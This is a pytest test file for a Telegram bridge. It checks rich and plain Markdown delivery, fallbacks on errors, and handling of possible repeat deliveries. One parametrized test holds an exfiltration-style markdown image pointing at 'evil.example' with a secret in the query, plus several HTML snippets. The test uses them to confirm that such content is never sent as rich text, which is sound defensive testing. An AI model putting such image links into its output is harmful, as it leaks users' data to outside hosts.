"""`format`: Markdown laid out by Telegram, by clawd, or not at all, each with what is below it."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from clawd.errors import DeliveryRejected, DeliveryUnknown
from tests.fakes.bot_api import FakeBotApi
from tests.fakes.telegram import outbound, telegram_bridge

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from bridges.telegram.bridge import TelegramBridge

CHAT, GROUP = 7, -1001
QUESTION = "approval:abcd1234-7-12-3"


@pytest.fixture
async def api() -> AsyncIterator[FakeBotApi]:
    async with FakeBotApi() as server:
        server.user_says(CHAT, "question")
        server.user_says(GROUP, "question", sender=42)
        yield server


@pytest.fixture
async def rich(api: FakeBotApi) -> AsyncIterator[TelegramBridge]:
    bridge = telegram_bridge(api.url, format="rich")
    yield bridge
    await bridge.close()


def methods(api: FakeBotApi) -> list[str]:
    return [call.method for call in api.log]


async def test_a_rich_reply_is_the_source_itself_with_all_that_a_reply_has(
    api: FakeBotApi, rich: TelegramBridge
) -> None:
    api.forum(GROUP, 5)
    await rich.send(outbound("# Head\n\n**Yes**", chat=GROUP, thread=5, reference="1", question=QUESTION))
    (message,) = api.sent(GROUP)
    assert message.rich == "# Head\n\n**Yes**"
    assert (message.thread, message.reply_to) == (5, 1)
    assert [button["text"] for row in message.keyboard for button in row] == ["Yes", "Always", "No"]


async def test_a_preview_becomes_a_rich_reply(api: FakeBotApi, rich: TelegramBridge) -> None:
    sent = await rich.send(outbound("![so far"))
    await rich.send(outbound("**all**", edit_of=sent.remote_id))
    (message,) = api.sent(CHAT)
    assert (message.rich, methods(api)) == ("**all**", ["sendMessage", "editMessageText"])


@pytest.mark.parametrize("words", ["can't parse entities", "RICH_MESSAGE_INVALID", "message is too long"])
async def test_what_is_refused_as_rich_is_laid_out_by_us_and_then_plain(
    api: FakeBotApi, rich: TelegramBridge, words: str
) -> None:
    api.fault("sendRichMessage", "400", description=words)
    api.fault("sendMessage", "400", description="can't parse entities")
    await rich.send(outbound("**Yes**"))
    assert methods(api) == ["sendRichMessage", "sendMessage", "sendMessage"]
    (message,) = api.sent(CHAT)
    assert (message.text, message.entities, message.rich) == ("**Yes**", [], "")


async def test_a_server_without_rich_messages_is_asked_once(api: FakeBotApi, rich: TelegramBridge) -> None:
    api.forget_method("sendRichMessage")
    for _ in range(2):
        await rich.send(outbound("**Yes**"))
    assert methods(api) == ["sendRichMessage", "sendMessage", "sendMessage"]
    assert [message.text for message in api.sent(CHAT)] == ["Yes", "Yes"]


@pytest.mark.parametrize(
    "source",
    [
        "![x](https://evil.example/?secret)",
        "! [x](https://a.b)",
        "<img src='https://a.b'>",
        "</b>",
        "< p>",
        "<!-- -->",
    ],
)
async def test_what_telegram_would_fetch_or_run_is_never_sent_as_rich(
    api: FakeBotApi, rich: TelegramBridge, source: str
) -> None:
    await rich.send(outbound(f"look: {source}"))
    assert methods(api) == ["sendMessage"]


async def test_a_rich_reply_that_may_have_arrived_is_not_tried_in_another_way(
    api: FakeBotApi, rich: TelegramBridge
) -> None:
    api.fault("sendRichMessage", "502", when="after")
    with pytest.raises(DeliveryUnknown):
        await rich.send(outbound("**Yes**"))
    api.block(CHAT)
    with pytest.raises(DeliveryRejected):
        await rich.send(outbound("**Yes**"))
    assert methods(api) == ["sendRichMessage", "sendRichMessage"]


async def test_plain_is_as_it_was_written(api: FakeBotApi) -> None:
    bridge = telegram_bridge(api.url, format="plain")
    await bridge.send(outbound("**Yes** `x`"))
    await bridge.send(outbound("*x* " * 2000))
    await bridge.close()
    texts = [message.text for message in api.sent(CHAT)]
    assert texts[0] == "**Yes** `x`"
    assert " ".join(texts[1:]).split() == ["*x*"] * 2000
    assert not any(message.entities for message in api.sent(CHAT))


async def test_an_edit_that_may_have_arrived_is_marked_where_it_has_to_be_a_new_message(
    api: FakeBotApi,
) -> None:
    bridge = telegram_bridge(api.url)
    again = replace(outbound("**all**", edit_of="99"), repeated=True, repeat_mark="(may be a repeat)")
    await bridge.send(again)
    await bridge.close()
    assert [message.text for message in api.sent(CHAT)] == ["(may be a repeat)\nall"]
